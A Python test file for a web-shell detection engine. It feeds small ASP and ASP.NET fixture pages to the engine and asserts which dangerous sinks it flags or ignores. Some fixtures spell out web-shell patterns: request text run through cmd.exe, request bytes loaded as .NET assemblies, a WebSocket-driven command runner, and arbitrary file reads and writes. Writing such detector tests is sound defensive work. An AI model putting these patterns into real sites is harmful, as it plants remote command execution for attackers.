"""Behaviour engine, session 15 (issue 14, A8).

Each group below is a request or a left-over of session 14 (BENCHMARKS.md "Behaviour engine, session 15"):
harmless reproductions of a shape that must be found, and ordinary pages of the same make that stay silent.
The pages were written for these tests: nothing is compiled or run, names, files and hosts are placeholders,
and none is a copy of a real shell.
"""

from __future__ import annotations

import pytest

from .rule_tables import Page
from .rule_tables import sinks_of as _sinks

# --- classic ASP: ADODB.Stream.LoadFromFile of a request path, then BinaryWrite (B10's mutation, session 14) ------

_STREAM = 'Set st = Server.CreateObject("ADODB.Stream")\nst.Open\nst.Type = 1\n'
STREAM_FOUND: list[Page] = [
    (
        "statement-of-mapped-request-path",
        ".asp",
        "<%\n" + _STREAM + 'st.LoadFromFile Server.MapPath(Request("f"))\nResponse.BinaryWrite st.Read\n%>',
    ),
    (
        "page-function-given-the-query",
        ".asp",
        "<%\nFunction SendAny(sPath)\n"
        + _STREAM
        + "st.LoadFromFile(sPath)\nResponse.BinaryWrite st.Read\nst.Close\nEnd Function\n"
        'SendAny Request.QueryString("p")\n%>',
    ),
    (
        "folder-of-the-request-built-by-fso",
        ".asp",
        "<%\n" + _STREAM + 'Set fso = Server.CreateObject("Scripting.FileSystemObject")\n'
        'p = fso.BuildPath(Request("dir"), Request("name"))\nst.LoadFromFile p\nResponse.BinaryWrite st.Read\n%>',
    ),
]
STREAM_QUIET: list[Page] = [
    (
        "fixed-image-of-the-site",
        ".asp",
        "<%\n" + _STREAM + 'st.LoadFromFile Server.MapPath("images/blank.gif")\n'
        'Response.ContentType = "image/gif"\nResponse.BinaryWrite st.Read\n%>',
    ),
    (
        "attachment-below-the-site-folder",
        ".asp",
        "<%\n" + _STREAM + 'st.LoadFromFile Server.MapPath("/attachments/" & Request("id") & ".dat")\n'
        "Response.BinaryWrite st.Read\n%>",
    ),
    (
        "name-built-below-the-site-folder",
        ".asp",
        "<%\n" + _STREAM + 'Set fso = Server.CreateObject("Scripting.FileSystemObject")\n'
        'root = Server.MapPath("/files")\np = fso.BuildPath(root, Request("name"))\nst.LoadFromFile p\nResponse.BinaryWrite st.Read\n%>',
    ),
    (
        "include-reader-of-fixed-files",
        ".asp",
        "<%\nFunction ReadFile(sFile)\n" + _STREAM + "st.LoadFromFile Server.MapPath(sFile)\n"
        'ReadFile = st.ReadText\nEnd Function\nResponse.Write ReadFile("inc/footer.htm")\n%>',
    ),
]


@pytest.mark.parametrize(("case", "ext", "page"), STREAM_FOUND, ids=[c[0] for c in STREAM_FOUND])
def test_stream_load_of_a_requested_file_is_named(case: str, ext: str, page: str) -> None:
    assert "com-file-read" in _sinks(page, ext), case


@pytest.mark.parametrize(("case", "ext", "page"), STREAM_QUIET, ids=[c[0] for c in STREAM_QUIET])
def test_stream_load_of_the_site_own_files_is_silent(case: str, ext: str, page: str) -> None:
    assert _sinks(page, ext) == set(), case


# --- classic ASP: a page's own Sub taking request paths and copying/deleting inside (B10, session 14) ------------
# (named since ff5a9b2, session 14: a Sub called without brackets passes its arguments; kept here as B10 asked)

_MOVE_SUB = (
    "<%\nSub MoveSiteFile(sFrom, sTo)\n"
    'Set oFso = Server.CreateObject("Scripting.FileSystemObject")\n'
    "oFso.CopyFile Server.MapPath(sFrom), Server.MapPath(sTo), True\nEnd Sub\nCALL\n%>"
)


def test_sub_given_request_paths_is_named() -> None:
    page = _MOVE_SUB.replace("CALL", 'MoveSiteFile Request("from"), Request("to")')
    assert "com-file-write" in _sinks(page, ".asp")


def test_sub_given_fixed_paths_is_silent() -> None:
    page = _MOVE_SUB.replace("CALL", 'If Request("go") = "1" Then MoveSiteFile "data/site.mdb", "data/bak/site.mdb"')
    assert _sinks(page, ".asp") == set()


# --- an address picked from the page's own table by a request key (B11, session 15) --------------------------------

_RELAY = """<%@ WebHandler Language="C#" Class="Relay" %>
using System.Collections.Generic;
using System.Net;
using System.Web;
public class Relay : IHttpHandler {
    private readonly Dictionary<string, string> _targets = new Dictionary<string, string>();
    public Relay() {
        _targets.Add("news", "http://intranet.example/api/news");
        _targets.Add("menu", "http://intranet.example/api/menu");
    }
    public void ProcessRequest(HttpContext context) {
        string key = context.Request.QueryString["target"];
        context.Response.Write(Fetch(ARG));
    }
    private string Fetch(string address) {
        using (var client = new WebClient()) { return client.DownloadString(address); }
    }
    public bool IsReusable { get { return false; } }
}
"""


def test_address_picked_from_the_page_table_by_a_key_is_silent() -> None:
    assert _sinks(_RELAY.replace("ARG", "_targets[key]"), ".ashx") == set()
    assert _sinks(_RELAY.replace("ARG", "this._targets[key]"), ".ashx") == set()


@pytest.mark.parametrize(
    "arg",
    ["key", 'context.Request.QueryString["u"]', "key.Split(',')[0]", 'context.Request[context.Request["k"]]'],
)
def test_address_of_the_request_is_still_named(arg: str) -> None:
    assert "http-out" in _sinks(_RELAY.replace("ARG", arg), ".ashx"), arg


def test_buffer_sized_by_the_request_stays_the_request_buffer() -> None:
    # the corpus's loaders size a buffer by the posted stream, then Read fills it: still the request's bytes
    page = (
        '<%@ Page Language="C#" %><% var a = Request.InputStream; object[] v = new object[2];\n'
        "v[1] = new byte[a.Length];\na.Read((byte[])v[1], 0, ((byte[])v[1]).Length);\n"
        "System.Reflection.Assembly.Load((byte[])v[1]).CreateInstance(\"K\"); %>"
    )
    assert "assembly-load" in _sinks(page, ".aspx")


# --- the stored path of a record the application looks up by request ids (B11, session 15) --------------------------

_DOWNLOAD = """<%@ WebHandler Language="C#" Class="Download" %>
using System.Web;
public class Download : IHttpHandler {
    public void ProcessRequest(HttpContext context) {
        string owner = context.Request.QueryString["owner"];
        string id = context.Request.QueryString["id"];
        DocumentStore store = new DocumentStore();
        LOOKUP
        if (doc == null) { context.Response.StatusCode = 404; return; }
        context.Response.WriteFile(doc.StoredPath);
    }
    public bool IsReusable { get { return false; } }
}
"""


@pytest.mark.parametrize(
    "lookup",
    ["Document doc = store.Find(owner, id);", "var doc = store.GetDocumentById(owner, id);"],
)
def test_stored_path_of_a_record_looked_up_by_ids_is_silent(lookup: str) -> None:
    assert _sinks(_DOWNLOAD.replace("LOOKUP", lookup), ".ashx") == set(), lookup


@pytest.mark.parametrize(
    "lookup",
    [
        "System.IO.FileInfo doc = new System.IO.FileInfo(id);",  # an object made from the request's text
        "var doc = Load(id);",  # no receiver: a call of anything
        "var doc = store.Find(owner, id).Copy(id);",  # more than the lookup
        "var doc = Helper.FindDoc(id);",  # a static class, not an object the page made
    ],
)
def test_path_of_objects_made_from_request_text_is_still_named(lookup: str) -> None:
    assert "file-read" in _sinks(_DOWNLOAD.replace("LOOKUP", lookup), ".ashx"), lookup


def test_lookup_defined_by_the_page_is_followed() -> None:
    # a shell's own "store" class: its Find returns what it was given, and the engine reads the page's method
    page = _DOWNLOAD.replace("LOOKUP", "var doc = store.Find(owner, id);").replace(
        "    public bool IsReusable",
        "    class DocumentStore { public Doc Find(string o, string i) { return new Doc(i); } }\n    public bool IsReusable",
    )
    assert "file-read" in _sinks(page, ".ashx")


# --- a method's parameter named like a request local of another method (B11, session 15) ---------------------------
# aita-task's UrlMapHandler: ProcessRequest holds `url = Request.QueryString["url"]`, PostData(string url, ..) fetches
# its own parameter, and the only call passes one of the page's own addresses. Names are the page's in the engine, so
# the parameter shared the local's taint; and `IDictionary<string, object> data` was read as two parameters.

_MAPPED = """<%@ WebHandler Language="C#" Class="Mapped" %>
using System.Collections.Generic;
using System.Net;
using System.Web;
public class Mapped : IHttpHandler {
    private IDictionary<string, string> _map = new Dictionary<string, string>();
    public Mapped() { _map.Add("profile", "http://intranet.example/api/profile"); }
    public void ProcessRequest(HttpContext context) {
        var url = context.Request.QueryString["url"];
        var fields = new Dictionary<string, object>();
        context.Response.Write(PostData(ARG, fields));
    }
    private string PostData(string url, IDictionary<string, object> data) {
        BODY
        var request = HttpWebRequest.Create(url) as HttpWebRequest;
        using (var r = request.GetResponse()) { return r.ContentType; }
    }
    public bool IsReusable { get { return false; } }
}
"""


def test_parameter_named_like_a_request_local_elsewhere_is_silent() -> None:
    assert _sinks(_MAPPED.replace("ARG", "_map[url]").replace("BODY", ""), ".ashx") == set()


@pytest.mark.parametrize(
    ("arg", "body"),
    [
        ("url", ""),  # the request's address passed on
        # the request's text in the call (a bare scheme before it: the request still names the host; "http://a.example/"
        # + url names a path on a fixed host, silent since parameters are their method's own names - session 16)
        ('"http://" + url', ""),
        ("_map[url]", 'url = HttpContext.Current.Request.QueryString["next"];'),  # given request text in the method
    ],
)
def test_parameter_given_request_text_is_still_named(arg: str, body: str) -> None:
    assert "http-out" in _sinks(_MAPPED.replace("ARG", arg).replace("BODY", body), ".ashx"), (arg, body)


def test_method_called_nowhere_takes_no_request_text_from_a_same_named_local() -> None:
    # (session 15 kept this sink: the parameter shared the name, so the taint, of ProcessRequest's request local. Since
    # session 16 (B14's request) a method's parameters are its own names: nothing from the request reaches it.)
    page = _MAPPED.replace("PostData(ARG, fields)", '"ok"').replace("BODY", "")
    assert _sinks(page, ".ashx") == set()


def test_method_called_nowhere_reading_the_request_itself_keeps_its_sink() -> None:
    page = _MAPPED.replace("PostData(ARG, fields)", '"ok"').replace("BODY", 'url = HttpContext.Current.Request["u"];')
    assert "http-out" in _sinks(page, ".ashx")


def test_parameter_after_a_generic_type_takes_its_own_argument() -> None:
    # Save(Dictionary<string, string> meta, string path): the request's path is the second argument, not a third
    page = (
        '<%@ Page Language="C#" %><script runat="server">\n'
        "void Save(System.Collections.Generic.Dictionary<string, string> meta, string path) {\n"
        '    System.IO.File.WriteAllText(path, "x");\n}\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "    var m = new System.Collections.Generic.Dictionary<string, string>();\n"
        '    Save(m, Request.Form["p"]);\n}\n</script>'
    )
    assert "file-write" in _sinks(page, ".aspx")


# --- what a sink reads only decoded as an image (session 14's left-over 2c; subtext's image.ashx, B11's ResizePhoto) --

_THUMB = """<%@ WebHandler Language="C#" Class="Thumb" %>
using System.Drawing;
using System.Drawing.Imaging;
using System.IO;
using System.Web;
public class Thumb : IHttpHandler {
    public void ProcessRequest(HttpContext ctx) {
        string name = ctx.Request.QueryString["name"];
        string folder = ctx.Request.QueryString["dir"];
        using (FileStream fs = new FileStream(Path.Combine(folder, name), FileMode.Open, FileAccess.Read)) {
            USE
        }
    }
    public bool IsReusable { get { return true; } }
}
"""
_PIXELS = (
    "using (Image img = Image.FromStream(fs)) { using (var small = new Bitmap(img, 64, 64)) "
    "{ small.Save(ctx.Response.OutputStream, ImageFormat.Jpeg); } }"
)
_PROXY = """<%@ WebHandler Language="C#" Class="Photo" %>
using System.Drawing;
using System.Web;
public class Photo : IHttpHandler {
    public void ProcessRequest(HttpContext ctx) {
        string url = ctx.Request.QueryString["src"];
        USE
    }
    public bool IsReusable { get { return true; } }
}
"""


def test_file_decoded_as_an_image_is_silent() -> None:
    assert _sinks(_THUMB.replace("USE", _PIXELS), ".ashx") == set()


def test_file_bytes_sent_back_are_still_named() -> None:
    assert "file-read" in _sinks(_THUMB.replace("USE", "fs.CopyTo(ctx.Response.OutputStream);"), ".ashx")
    both = _PIXELS + " fs.Position = 0; fs.CopyTo(ctx.Response.OutputStream);"
    assert "file-read" in _sinks(_THUMB.replace("USE", both), ".ashx")


def test_answer_decoded_as_an_image_is_silent() -> None:
    use = (
        "Image img = Image.FromStream(new System.IO.MemoryStream(new System.Net.WebClient().DownloadData(url)));\n"
        "img.Save(ctx.Response.OutputStream, System.Drawing.Imaging.ImageFormat.Png);"
    )
    assert _sinks(_PROXY.replace("USE", use), ".ashx") == set()


def test_answer_sent_back_is_still_named() -> None:
    use = "ctx.Response.BinaryWrite(new System.Net.WebClient().DownloadData(url));"
    assert "http-out" in _sinks(_PROXY.replace("USE", use), ".ashx")
    held = "byte[] b = new System.Net.WebClient().DownloadData(url);\nctx.Response.BinaryWrite(b);\n"
    assert "http-out" in _sinks(_PROXY.replace("USE", held + "var i = new Bitmap(new System.IO.MemoryStream(b));"), ".ashx")


# --- a handler's feature behind a check of the signed-in user (session 14's left-over 2c; c1cms's DownloadFile) -----

_SIGNED = """<%@ WebHandler Language="C#" Class="SiteFile" %>
using System.IO;
using System.Web;
public class SiteFile : IHttpHandler {
    public void ProcessRequest(HttpContext context) {
        string full = null;
        if (CHECK) {
            string file = context.Request.QueryString["file"];
            full = Path.GetDirectoryName(SiteInfo.Root) + file;
        }
        if (full == null) { context.Response.StatusCode = 403; return; }
        context.Response.SINK(full);
    }
    OWN
    public bool IsReusable { get { return true; } }
}
"""


@pytest.mark.parametrize(
    "check",
    [
        "Editors.IsLoggedIn()",
        "context.User.Identity.IsAuthenticated",
        "context.Request.IsAuthenticated",
        'context.User.IsInRole("Editors")',
        'Roles.IsUserInRole("Editors")',
        "folder.IsAuthorized(Permission.Edit, CurrentUser)",
    ],
)
def test_download_for_signed_in_users_is_silent(check: str) -> None:
    page = _SIGNED.replace("CHECK", check).replace("SINK", "TransmitFile").replace("OWN", "")
    assert _sinks(page, ".ashx") == set(), check


@pytest.mark.parametrize(
    ("check", "own"),
    [
        ('context.Request.QueryString["k"] == "7"', ""),  # a password in the query: anyone's
        ("IsLoggedIn()", 'bool IsLoggedIn() { return HttpContext.Current.Request.Cookies["k"] != null; }'),  # the page's own
        ("IsSignedIn()", 'bool IsSignedIn() { return true; }'),
    ],
)
def test_download_behind_the_page_own_gate_is_still_named(check: str, own: str) -> None:
    page = _SIGNED.replace("CHECK", check).replace("SINK", "TransmitFile").replace("OWN", own)
    assert "file-read" in _sinks(page, ".ashx"), check


def test_check_in_another_method_does_not_count() -> None:
    own = "bool Later(HttpContext c) { return c.User.Identity.IsAuthenticated; }"
    page = _SIGNED.replace("CHECK", "true").replace("SINK", "TransmitFile").replace("OWN", own)
    assert "file-read" in _sinks(page, ".ashx")


def test_code_behind_a_signed_in_check_still_runs_no_commands() -> None:
    page = (
        '<%@ Page Language="C#" %><% if (User.Identity.IsAuthenticated) {\n'
        '    System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]);\n'
        '    System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["a"])).CreateInstance("X");\n} %>'
    )
    assert {"process", "assembly-load"} <= _sinks(page, ".aspx")


def test_vb_needs_asp_net_own_check() -> None:
    body = 'If CHECK Then\n    System.IO.File.Delete(Request.Form("p"))\nEnd If\n'
    page = '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load()\nBODY\nEnd Sub\n</script>'
    assert _sinks(page.replace("BODY", body.replace("CHECK", "User.Identity.IsAuthenticated")), ".aspx") == set()
    # (an application method's name is no ASP.NET sign in VB: classic ASP pages are VB too)
    assert "file-write" in _sinks(page.replace("BODY", body.replace("CHECK", "IsLoggedIn()")), ".aspx")


def test_signed_in_features_are_application_features() -> None:
    from extriage.detections.webfiles.appcontext import application_features
    from extriage.detections.webfiles.behaviour.sinks import _SIGNED_IN_FEATURES

    assert _SIGNED_IN_FEATURES <= set(application_features())


# --- a request key naming one of the application's settings (B11, session 15; wmsoneplan's WMS_Bonds.asmx.vb) --------

_SETTING_VB = """Imports System.Web.Services
Imports System.Configuration.ConfigurationManager
Imports System.Data.SqlClient
<System.Web.Services.WebService(Namespace:="http://tempuri.org/")> _
Public Class Orders
    Inherits System.Web.Services.WebService
    <WebMethod()> _
    Public Function CountOrders(ByVal pEnvironment As String) As Integer
        Dim conn As SqlConnection = New SqlConnection(ARG)
        conn.Open()
        Return 0
    End Function
End Class
"""


@pytest.mark.parametrize(
    "arg",
    [
        "AppSettings(pEnvironment).ToString",
        "ConfigurationManager.AppSettings(pEnvironment)",
        "System.Configuration.ConfigurationManager.AppSettings.Get(pEnvironment)",
    ],
)
def test_connection_named_by_a_setting_key_is_silent(arg: str) -> None:
    assert _sinks(_SETTING_VB.replace("ARG", arg), ".vb") == set(), arg


def test_connection_string_of_the_caller_is_still_named() -> None:
    assert "sql-connection" in _sinks(_SETTING_VB.replace("ARG", "pEnvironment"), ".vb")
    page = '<%@ Page Language="C#" %><% var c = new System.Data.SqlClient.SqlConnection(KEY); c.Open(); %>'
    assert _sinks(page.replace("KEY", 'ConfigurationManager.AppSettings[Request["env"]]'), ".aspx") == set()
    assert "sql-connection" in _sinks(page.replace("KEY", 'Request["env"]'), ".aspx")


# --- a WebSocket message as request input (X32, session 15; lupingQAQ's WsTakeoverShell) ---------------------------

_SOCKET = """using System; using System.Diagnostics; using System.IO; using System.Net.WebSockets; using System.Text;
using System.Threading; using System.Threading.Tasks; using System.Web; using System.Web.WebSockets;
public class SocketPage : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext ctx) { if (ctx.IsWebSocketRequest) ctx.AcceptWebSocketRequest(Loop); }
    static async Task Loop(AspNetWebSocketContext c) {
        var ws = c.WebSocket; var buf = new byte[4096]; var acc = new MemoryStream();
        var r = await ws.ReceiveAsync(new ArraySegment<byte>(buf), CancellationToken.None);
        acc.Write(buf, 0, r.Count);
        string line = Encoding.UTF8.GetString(TEXT);
        USE
    }
    static string Run(string cmd) { return Process.Start(new ProcessStartInfo("cmd.exe", "/c " + cmd)).Id.ToString(); }
}
"""


@pytest.mark.parametrize("text", ["buf, 0, r.Count", "acc.ToArray()"])
def test_websocket_message_run_as_a_command_is_named(text: str) -> None:
    page = _SOCKET.replace("TEXT", text).replace("USE", "Run(line);")
    assert "process" in _sinks(page, ".cs"), text


@pytest.mark.parametrize(
    "use",
    [
        'await ws.SendAsync(new ArraySegment<byte>(Encoding.UTF8.GetBytes("echo: " + line)), '
        "WebSocketMessageType.Text, true, CancellationToken.None);",
        "await ws.SendAsync(new ArraySegment<byte>(buf, 0, r.Count), WebSocketMessageType.Text, true, "
        "CancellationToken.None);",
    ],
)
def test_websocket_message_sent_back_is_silent(use: str) -> None:
    page = _SOCKET.replace("TEXT", "buf, 0, r.Count").replace("USE", use).replace(
        'static string Run(string cmd) { return Process.Start(new ProcessStartInfo("cmd.exe", "/c " + cmd)).Id.ToString(); }',
        "",
    )
    assert _sinks(page, ".cs") == set(), use


def test_http_client_send_async_is_still_an_outbound_request() -> None:
    page = (
        '<%@ Page Language="C#" Async="true" %><% var h = new System.Net.Http.HttpClient();\n'
        "var m = new System.Net.Http.HttpRequestMessage(System.Net.Http.HttpMethod.Get, Request[\"u\"]);\n"
        'h.SendAsync(new System.Net.Http.HttpRequestMessage(System.Net.Http.HttpMethod.Get, Request["u"])); %>'
    )
    assert "http-out" in _sinks(page, ".aspx")


# --- ADO Recordset.Open given the whole statement (B12's note, session 15) -----------------------------------------

RECORDSET_FOUND: list[Page] = [
    (
        "classic-statement-of-the-form",
        ".asp",
        '<%\nSet Conn = Server.CreateObject("ADODB.Connection")\nConn.Open "dsn=site"\n'
        'Set RS = Server.CreateObject("ADODB.Recordset")\nRS.Open Request.Form("sql"), Conn, 1, 1\n'
        "Do While Not RS.EOF\nResponse.Write RS(0)\nRS.MoveNext\nLoop\n%>",
    ),
    (
        "aspcompat-vb-net-held-statement",
        ".aspx",
        '<%@ Page Language="VB" ASPCompat="true" %>\n<%\nDim RS As New ADODB.Recordset\n'
        'Dim q As String = Request.Form.Item("sql")\nRS.Open(q, Conn)\nResponse.Write(RS(0).Value)\n%>',
    ),
]
RECORDSET_QUIET: list[Page] = [
    (
        "classic-news-by-number",
        ".asp",
        '<%\nSet RS = Server.CreateObject("ADODB.Recordset")\n'
        'RS.Open "select title from news where id=" & CLng(Request("id")), Conn, 1, 1\nResponse.Write RS(0)\n%>',
    ),
    (
        "aspcompat-card-by-row",
        ".aspx",
        '<%@ Page Language="VB" ASPCompat="true" %>\n<%\nDim RS As New ADODB.Recordset\n'
        'RS.Open("SELECT CardNo FROM Cards WHERE Id=" & Request.Form.Item("row"))\nResponse.Write(RS(0).Value)\n%>',
    ),
    (
        "classic-feed-and-empty-open",
        ".asp",
        '<%\nSet RS = Server.CreateObject("ADODB.Recordset")\nSet x = Server.CreateObject("MSXML2.XMLHTTP")\n'
        'x.Open "GET", "http://feeds.example/news", False\nx.Send\nRS.Open\n%>',
    ),
]


@pytest.mark.parametrize(("case", "ext", "page"), RECORDSET_FOUND, ids=[c[0] for c in RECORDSET_FOUND])
def test_recordset_open_of_the_request_statement_is_named(case: str, ext: str, page: str) -> None:
    assert "sql-recordset" in _sinks(page, ext), case


@pytest.mark.parametrize(("case", "ext", "page"), RECORDSET_QUIET, ids=[c[0] for c in RECORDSET_QUIET])
def test_recordset_open_of_the_page_statement_is_silent(case: str, ext: str, page: str) -> None:
    assert _sinks(page, ext) == set(), case


# --- VB's Split function on a literal separator keeps each piece the request's (session 14's left-over 2b) ---------
# blackskull's writable-folder probe splits the posted folder list on Chr(13) & Chr(10) (folded to a literal), then
# walks each folder through its own GetFullPath(path) function into FSO CreateTextFile/DeleteFile.

_SPLIT = (
    '<%\nConst FSO_ID = "Scripting.FileSystemObject"\n'
    'Function FullPath(p)\n  FullPath = p\n  If Right(p, 1) <> "\\" Then FullPath = p & "\\"\nEnd Function\n'
    "Sub Probe(d)\n  Set fso = Server.CreateObject(FSO_ID)\n  f = FullPath(d) & fso.GetTempName\n"
    "  fso.CreateTextFile(f)\n  fso.DeleteFile(f)\nEnd Sub\n"
    "parts = Split(LIST)\nFor i = 0 To UBound(parts)\n  Probe Trim(parts(i))\nNext\n%>"
)


@pytest.mark.parametrize(
    "args", ['Request("Paths"), Chr(13) & Chr(10)', 'Request("Paths"), vbCrLf', 'Request.Form("Paths"), ";"']
)
def test_probe_of_folders_split_from_the_request_is_named(args: str) -> None:
    assert "com-file-in-request-folder" in _sinks(_SPLIT.replace("LIST", args), ".asp"), args


def test_probe_of_the_site_own_folders_is_silent() -> None:
    page = _SPLIT.replace("LIST", 'Server.MapPath("/upload") & ";" & Server.MapPath("/data"), ";"')
    assert _sinks(page, ".asp") == set()
